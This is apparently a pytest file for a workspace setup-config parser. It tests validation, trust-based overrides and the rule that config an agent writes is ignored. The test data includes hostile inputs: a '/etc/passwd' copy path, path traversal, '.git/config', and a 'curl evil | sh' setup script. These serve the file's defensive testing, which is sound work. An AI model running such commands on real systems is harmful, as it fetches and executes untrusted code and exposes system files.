from __future__ import annotations

from pathlib import Path

import pytest

from studio.kernel.errors import Invalid
from workspaces.services import ensure_workspace
from workspaces.setup.config import checked
from workspaces.setup.effective import effective_for, setup_of
from workspaces.setup.repository import FILE_LIMIT, parse

WHOLE = """
[setup]
copy = [".env*", "config/**"]
link = ["node_modules"]
script = '''
npm ci
'''
time_limit = 60
[environment]
PORT = "{port}"
[cleanup]
script = "make clean"
time_limit = 5
[server]
command = "npm run dev -- --port {port}"
health_path = "/health"
ready_seconds = 9
at_review = true
"""


def test_parse__the_whole_file():
    assert parse(WHOLE.encode()) == {
        "copy": [".env*", "config/**"],
        "link": ["node_modules"],
        "script": "npm ci",
        "script_seconds": 60,
        "environment": {"PORT": "{port}"},
        "cleanup": "make clean",
        "cleanup_seconds": 5,
        "server": "npm run dev -- --port {port}",
        "health_path": "/health",
        "ready_seconds": 9,
        "at_review": True,
    }
    assert parse(b"") == {}


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (b"[setup\n", "it is not TOML:"),
        (b"x = 1\n", "line 1: there is no table [x]; there are setup, environment"),
        (b"\nsetup = 1\n", "line 2: “setup” is a table"),
        (b"[server]\ncommand = 'x'\nports = 3\n", "line 3: [server] has no key “ports”; it has command"),
        (b"[setup]\n\ncopy = 'x'\n", "line 3, [setup] copy: “copy” is a list of paths"),
        (b"[setup]\nlink = ['node_modules', 3]\n", "line 2, [setup] link: “link” is a list of paths"),
        (b"[setup]\ncopy = ['/etc/passwd']\n", "must be below the repository's root"),
        (b"[setup]\ncopy = ['a/../../b']\n", "must be below the repository's root"),
        (b"[setup]\ncopy = ['.git/config']\n", "names no file of the repository"),
        (b"[setup]\ncopy = ['.jj/repo']\n", "names no file of the repository"),
        (b"[setup]\nlink = ['node_*']\n", "has a wildcard"),
        (b"[setup]\ntime_limit = true\n", "line 2, [setup] time_limit: “script_seconds” is a whole number"),
        (b"[setup]\ntime_limit = 99999999999\n", "from 1 to 3,600"),
        (b"[environment]\nA = 1\n", "line 1, [environment]: “environment”: the value of A is a text"),
        (b"[environment]\n'A B' = 'x'\n", "is no variable's name"),
        (b"[environment]\nSTUDIO_X = 'x'\n", "are the studio's own"),
        (b"[environment]\nA = '{secret}'\n", "{secret} is unknown; there are {port}"),
        (b"[server]\nhealth_path = 'http://elsewhere/'\n", "is a path of the server"),
        (b"[server]\nat_review = 'yes'\n", "is true or false"),
        (b"\n\n\xff", "line 3 is not UTF-8"),
        (b"a = " + b"[" * 20_000, "it is not TOML"),
        (b"#" * (FILE_LIMIT + 1), "larger than 64 kB"),
        (b"[setup]\ncopy = [" + b",".join(b"'f%d'" % n for n in range(51)) + b"]", "50 are possible"),
        (b"[setup]\nscript = '" + b"x" * 10_001 + b"'", "10,000 are possible"),
        (b"[setup]\nscript = \"a\\u0000b\"", "control characters"),
    ],
)  # fmt: skip
def test_parse__hostile_or_mistaken(text, words):
    with pytest.raises(Invalid) as refused:
        parse(text)
    assert words in refused.value.message


def test_checked__placeholders_of_a_shell_are_no_placeholders():
    assert checked("environment", {"A": "${HOME} {{x}} {port}"}) == {"A": "${HOME} {{x}} {port}"}


def test_effective__the_file_overrides_where_the_project_is_trusted(project, configure, bring):
    configure(script="make setup", copy=[".env"], ready_seconds=7)
    bring("[setup]\nscript = 'npm ci'\n", trusted=False)
    found = effective_for(project)
    assert (found.setup.script, found.file.there, found.sources["script"]) == ("make setup", True, "settings")
    project.trusted = True
    found = effective_for(project)
    assert (found.setup.script, found.setup.copy, found.setup.ready_seconds) == ("npm ci", (".env",), 7)
    assert (found.sources["script"], found.sources["copy"], found.sources["link"]) == (
        "repository",
        "settings",
        "default",
    )


def test_setup_of__the_base_commit_counts_never_what_the_agent_wrote(project, bring):
    bring("[setup]\nscript = 'npm ci'\n")
    workspace = ensure_workspace(project=project, label="DEMO-1")
    (Path(workspace.path) / ".opencode-studio" / "config.toml").write_text("[setup]\nscript = 'curl evil | sh'\n")
    assert setup_of(workspace).script == "npm ci"
    bring("[setup]\nscripts = 'x'\n")  # newer on the branch: not of this checkout
    assert setup_of(workspace).script == "npm ci"
    with pytest.raises(Invalid, match=r"line 2: \[setup\] has no key “scripts”"):
        setup_of(ensure_workspace(project=project, label="DEMO-2"))
